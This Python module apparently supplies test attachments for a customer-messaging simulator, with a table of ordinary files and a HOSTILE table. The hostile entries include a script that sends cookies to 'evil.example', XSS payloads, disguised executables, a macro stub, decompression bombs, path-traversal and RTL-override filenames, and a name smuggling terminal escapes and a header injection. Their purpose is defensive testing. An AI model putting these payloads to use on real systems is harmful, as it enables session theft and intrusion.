"""The files that simulated customers send, by name: every kind that WhatsApp brings, and the kinds that nobody wants.

Invariant: a row of ``SAMPLES`` is what its content type says; a row of ``HOSTILE`` lies, hides, explodes or is named
to do harm, and is harmless as long as nobody opens it.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping

from agent_tui.core.errors import SetupError
from agent_tui.simulator.files import contact, pdf, photo, voice_note
from agent_tui.simulator.inbound import Attachment
from agent_tui.simulator.packages import OFFICE_TYPES, office, package, png_bomb, zip_bomb
from agent_tui.simulator.small_pictures import GIF, JPEG, STICKER
from agent_tui.simulator.sounds import aac, amr, mp3, mp4

Row = tuple[str, str, Callable[[], bytes]]
"""Content type, name, bytes."""

_WORD = OFFICE_TYPES["word"]
_TWO_CARDS = contact("Marta Ruiz", "+34600111222") + contact("Iván Gil", "+34600111333")
_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200
_PAGE = b"<!DOCTYPE html><script>fetch('https://evil.example/' + document.cookie)</script>"
_DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"

SAMPLES: Mapping[str, Row] = {
    "photo": ("image/png", "photo.png", lambda: photo(7)),
    "jpeg": ("image/jpeg", "IMG-20261126-WA0001.jpg", lambda: JPEG),
    "gif": ("image/gif", "hello.gif", lambda: GIF),
    "sticker": ("image/webp", "sticker.webp", lambda: STICKER),
    "voice": ("audio/ogg", "voice.ogg", voice_note),
    "audio": ("audio/mpeg", "song.mp3", mp3),
    "aac": ("audio/aac", "memo.aac", aac),
    "amr": ("audio/amr", "memo.amr", amr),
    "video": ("video/mp4", "VID-20261126-WA0002.mp4", mp4),
    "pdf": ("application/pdf", "invoice.pdf", lambda: pdf(("Invoice 2026-118", "Total 48.90 EUR"))),
    "docx": (_WORD, "complaint.docx", lambda: office("word")),
    "xlsx": (OFFICE_TYPES["xl"], "orders.xlsx", lambda: office("xl")),
    "pptx": (OFFICE_TYPES["ppt"], "slides.pptx", lambda: office("ppt")),
    "text": ("text/plain", "notes.txt", lambda: b"What I ordered: one lamp, two shoes.\n"),
    "contact": ("text/vcard", "contact.vcf", lambda: contact("Marta Ruiz", "+34600111222")),
    "contacts": ("text/vcard", "contacts.vcf", lambda: _TWO_CARDS),
    "unknown": ("application/x-cad-drawing", "plan.cad9", lambda: b"CAD9\x01\x02 a drawing that nobody knows"),
    "nameless": ("application/octet-stream", "", lambda: b"\x07\x01\x02\x03 no kind, no name"),
}
"""What customers send every day, and now and then."""

HOSTILE: Mapping[str, Row] = {
    "program": ("application/x-msdownload", "invoice.exe", lambda: _PROGRAM),
    "lying_photo": ("image/jpeg", "photo.jpg", lambda: _PROGRAM),
    "lying_pdf": ("application/pdf", "invoice.pdf", lambda: _PAGE),
    "lying_video": ("video/mp4", "clip.mp4", lambda: package({"clip.js": b"alert(1)"})),
    "two_endings": ("image/png", "photo.png.exe", lambda: photo(3)),
    "page": ("text/html", "offer.html", lambda: _PAGE),
    "drawing": ("image/svg+xml", "logo.svg", lambda: _DRAWING),
    "archive": ("application/zip", "all photos.zip", lambda: package({"photos.js": b"alert(1)"})),
    "macros": (_WORD, "order.docx", lambda: office("word", {"word/vbaProject.bin": b"Sub AutoOpen()"})),
    "zip_bomb": (_WORD, "report.docx", zip_bomb),
    "png_bomb": ("image/png", "big.png", png_bomb),
    "path": ("image/png", "../../../../etc/cron.d/photo.png", lambda: photo(4)),
    "windows_path": ("image/png", "..\\..\\Startup\\CON.png", lambda: photo(5)),
    "turned_name": ("application/pdf", "receipt\u202efdp.exe\u202c.pdf", lambda: pdf(("Receipt",))),
    "escape_name": ("image/png", "\x1b]0;owned\x07photo\r\nSet-Cookie: a=b.png", lambda: photo(6)),
    "long_name": ("image/png", "a" * 300 + ".png", lambda: photo(8)),
    "broken_photo": ("image/jpeg", "half.jpg", lambda: JPEG[:180]),
    "broken_sound": ("audio/ogg", "voice.ogg", lambda: voice_note()[:60]),
}
"""What they should not send."""


def sample(name: str) -> Attachment:
    """The sample file of that name.

    Raises:
        SetupError: there is none.
    """
    row = SAMPLES.get(name) or HOSTILE.get(name)
    if row is None:
        raise SetupError(f"media: there is no sample {name}.", hint="One of " + ", ".join([*SAMPLES, *HOSTILE]) + ".")
    content_type, file_name, make = row
    return Attachment(content_type, make(), file_name)
